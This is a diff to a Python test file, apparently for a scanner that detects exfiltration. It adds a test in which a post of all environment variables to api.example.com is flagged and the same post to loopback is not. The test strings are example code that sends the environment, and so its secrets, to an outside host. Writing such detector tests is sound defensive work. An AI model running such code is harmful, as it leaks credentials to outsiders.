@@ -482,3 +482,14 @@ def test_data_fed_to_an_uploading_process() -> None:
         "p.communicate(key.encode())\n"
     )
     assert "python.exfiltration" in _rules(source)
+
+
+def test_loopback_is_not_outside() -> None:
+    local = (
+        "import os, requests\nrequests.post('http://127.0.0.1:8765/env', json=dict(os.environ))\n"
+    )
+    documentation_host = (
+        "import os, requests\nrequests.post('https://api.example.com/env', json=dict(os.environ))\n"
+    )
+    assert "python.exfiltration" not in _rules(local)
+    assert "python.exfiltration" in _rules(documentation_host)
